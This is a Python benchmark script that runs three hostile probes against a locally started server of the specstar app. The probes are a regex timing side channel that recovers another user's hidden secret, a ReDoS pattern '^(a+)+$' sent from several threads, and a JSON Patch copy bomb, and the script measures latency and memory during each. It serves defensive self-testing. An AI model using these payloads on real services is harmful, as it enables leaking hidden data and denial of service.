"""Probe: hostile requests against a live uvicorn worker, with figures (not a test).

Three attacks on an app whose ownership checker shows each user only their own documents:

1. **Timing side channel.** Bob guesses Alice's hidden indexed ``secret`` character by
   character, timing ``secret.regex("^<known><guess>(.*.*.*.*)*!")`` (sorted on ``-secret``, so
   SQLite walks the secret's index). Reported: the median time of the right guess against the
   wrong ones, and which guess an attacker would pick.
2. **ReDoS.** Bob stores ``"a" * 28`` and sends ``^(a+)+$`` from four threads; meanwhile an
   unrelated request is timed.
3. **JSON Patch copy bomb.** Bob sends 23 ``copy`` operations doubling his document; reported:
   the answer, its latency, the worker's resident memory, an unrelated request's latency.

Run (PostgreSQL from ``SPECSTAR_TEST_PG_DSN`` or the local default)::

    hatch run python -m benchmarks.hostile_probe --backends sqlite,postgres
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Annotated, Any

import httpx
import msgspec
from fastapi import FastAPI, Header

from specstar.core import OwnershipChecker, StorageFactory
from specstar.fastapi import DependencyProvider, SpecStar, install_problem_handlers

SECRET = "k3Xq9ZpL2m"
ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
PG_DSN = os.environ.get("SPECSTAR_TEST_PG_DSN", "postgresql://postgres@127.0.0.1:5432/postgres")


class Doc(msgspec.Struct, kw_only=True):
    secret: str
    title: str = ""
    tags: list[str] = []


def _user(x_user: Annotated[str | None, Header()] = None) -> str | None:
    return x_user


def build_app() -> FastAPI:
    """The probed app (``uvicorn --factory``); the store comes from the environment."""
    store = os.environ["PROBE_STORE"]
    factory: StorageFactory
    if store == "sqlite":
        from specstar.sql import SQLiteStorageFactory

        factory = SQLiteStorageFactory(os.environ["PROBE_PATH"])
    else:
        from specstar.sql import PostgresStorageFactory

        factory = PostgresStorageFactory(PG_DSN, schema=os.environ["PROBE_SCHEMA"])
    crud = SpecStar(
        storage_factory=factory,
        permission_checker=OwnershipChecker(),
        dependency_provider=DependencyProvider(get_user=_user),
    )
    crud.add_model(Doc, indexed_fields=["secret", "title"])
    app = FastAPI()
    install_problem_handlers(app)
    crud.apply(app)
    return app


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


class Server:
    """One uvicorn worker serving :func:`build_app` in a subprocess."""

    def __init__(self, store: str, workdir: Path) -> None:
        self.port = _free_port()
        env = dict(os.environ, PROBE_STORE=store, PROBE_PATH=str(workdir / "db"))
        env["PROBE_SCHEMA"] = f"probe_{uuid.uuid4().hex[:8]}"
        self.schema = env["PROBE_SCHEMA"]
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "uvicorn", "benchmarks.hostile_probe:build_app", "--factory",
             "--port", str(self.port), "--log-level", "warning"],
            env=env,
        )  # fmt: skip
        self.url = f"http://127.0.0.1:{self.port}"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                httpx.get(self.url + "/openapi.json", timeout=1)
                return
            except httpx.HTTPError:
                time.sleep(0.2)
        raise RuntimeError("uvicorn did not start")

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)


def _timed(call: Callable[[], httpx.Response], statuses: list[int]) -> float:
    start = time.perf_counter()
    r = call()
    statuses.append(r.status_code)
    return time.perf_counter() - start


def _latencies(client: httpx.Client, url: str, user: str, seconds: float) -> list[float]:
    out: list[float] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        out.append(_timed(lambda: client.get(url, headers={"x-user": user}), []))
        time.sleep(0.05)
    return out


def _summary(values: list[float]) -> dict[str, float]:
    ms = sorted(v * 1000 for v in values)
    return {
        "n": len(ms),
        "p50_ms": round(statistics.median(ms), 2),
        "p95_ms": round(ms[int(len(ms) * 0.95) - 1 if len(ms) > 1 else 0], 2),
        "max_ms": round(ms[-1], 2),
    }


def probe(store: str, decoys: int, positions: int, repeats: int) -> dict[str, Any]:
    statuses: list[int] = []
    with tempfile.TemporaryDirectory() as tmp:
        server = Server(store, Path(tmp))
        try:
            client = httpx.Client(base_url=server.url, timeout=120)
            alice, bob = {"x-user": "alice"}, {"x-user": "bob"}
            rng = random.Random(7)
            client.post("/doc", json={"secret": SECRET}, headers=alice)
            for _ in range(decoys):
                fake = "".join(rng.choice(ALPHABET) for _ in range(10))
                client.post("/doc", json={"secret": fake}, headers=alice)
            mine = client.post("/doc", json={"secret": "bob", "title": "a" * 28}, headers=bob)
            mine_url = f"/doc/{mine.json()['resource_id']}"

            # 1. the timing side channel
            rounds = []
            known = ""
            for position in range(positions):
                right = SECRET[position]
                candidates = [right, *rng.sample([c for c in ALPHABET if c != right], 11)]
                medians: dict[str, float] = {}
                for guess in candidates:
                    qb = f'secret.regex("^{known}{guess}(.*.*.*.*)*!")'
                    params = {"qb": qb, "sorts": "-secret", "limit": "5"}
                    times = [
                        _timed(lambda p=params: client.get("/doc", params=p, headers=bob), statuses)
                        for _ in range(repeats)
                    ]
                    medians[guess] = statistics.median(times)
                wrong = [v for k, v in medians.items() if k != right]
                rounds.append(
                    {
                        "position": position,
                        "right_ms": round(medians[right] * 1000, 2),
                        "wrong_mean_ms": round(statistics.mean(wrong) * 1000, 2),
                        "wrong_min_ms": round(min(wrong) * 1000, 2),
                        "wrong_max_ms": round(max(wrong) * 1000, 2),
                        "attacker_picks_right": max(medians, key=lambda k: medians[k]) == right,
                    }
                )
                known += right  # give the attacker the answer: measure every position anyway

            # 2. ReDoS while an unrelated request is timed
            baseline = _latencies(client, mine_url, "bob", 2.0)
            stop = threading.Event()
            redos_times: list[float] = []

            def attack() -> None:
                params = {"qb": 'title.regex("^(a+)+$")'}
                with httpx.Client(base_url=server.url, timeout=120) as c:
                    while not stop.is_set():
                        call = lambda: c.get("/doc", params=params, headers=bob)  # noqa: E731
                        redos_times.append(_timed(call, statuses))

            threads = [threading.Thread(target=attack) for _ in range(4)]
            for t in threads:
                t.start()
            during = _latencies(client, mine_url, "bob", 5.0)
            stop.set()
            for t in threads:
                t.join()

            # 3. the JSON Patch copy bomb
            rss_before = _rss_mb(server.proc.pid)
            bomb = [{"op": "copy", "from": "/tags", "path": "/tags/-"}] * 23
            patch_headers = {**bob, "Content-Type": "application/json-patch+json"}
            client.patch(mine_url, json=[{"op": "add", "path": "/tags", "value": ["y" * 64]}],
                         headers=patch_headers)  # fmt: skip
            bomb_answers: list[tuple[int, float]] = []
            stop.clear()

            def bomber() -> None:
                with httpx.Client(base_url=server.url, timeout=120) as c:
                    for _ in range(3):
                        start = time.perf_counter()
                        r = c.patch(mine_url, content=json.dumps(bomb), headers=patch_headers)
                        statuses.append(r.status_code)
                        bomb_answers.append((r.status_code, time.perf_counter() - start))

            thread = threading.Thread(target=bomber)
            thread.start()
            bomb_during = _latencies(client, mine_url, "bob", 1.0)
            thread.join()
            rss_after = _rss_mb(server.proc.pid)
        finally:
            server.stop()
            if store == "postgres":
                import psycopg

                with psycopg.connect(PG_DSN, autocommit=True) as conn:
                    conn.execute(f'DROP SCHEMA IF EXISTS "{server.schema}" CASCADE')
    return {
        "store": store,
        "hidden_rows": decoys + 1,
        "timing_attack": rounds,
        "unrelated_request_baseline": _summary(baseline),
        "unrelated_request_during_redos": _summary(during),
        "redos_requests": _summary(redos_times),
        "copy_bomb": {
            "answers": sorted({s for s, _ in bomb_answers}),
            "latency": _summary([t for _, t in bomb_answers]),
            "worker_rss_mb_before": round(rss_before, 1),
            "worker_rss_mb_after": round(rss_after, 1),
            "unrelated_request_during": _summary(bomb_during),
        },
        "responses_5xx": sum(1 for s in statuses if s >= 500),
        "responses": len(statuses),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--backends", default="sqlite,postgres")
    parser.add_argument("--decoys", type=int, default=300, help="other hidden rows of Alice")
    parser.add_argument("--positions", type=int, default=3, help="secret characters probed")
    parser.add_argument("--repeats", type=int, default=5, help="requests per guess")
    args = parser.parse_args()
    for store in args.backends.split(","):
        result = probe(store, args.decoys, args.positions, args.repeats)
        print(json.dumps(result, indent=2))


if __name__ == "__main__":
    main()
